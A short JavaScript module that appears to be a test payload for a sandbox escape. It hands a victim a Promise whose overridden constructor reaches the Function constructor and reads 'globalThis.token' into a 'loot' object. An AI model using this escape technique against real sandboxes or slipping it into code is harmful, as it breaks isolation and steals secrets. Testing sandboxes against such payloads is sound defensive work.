module.exports = (victim, loot) => {
  const promise = Promise.resolve('x');
  promise.constructor = class extends Promise { constructor(run) { super(run); try { loot.value = run.constructor('return globalThis.token')(); } catch (error) { loot.error = error; } } };
  victim.take(promise);
  promise.then();
};
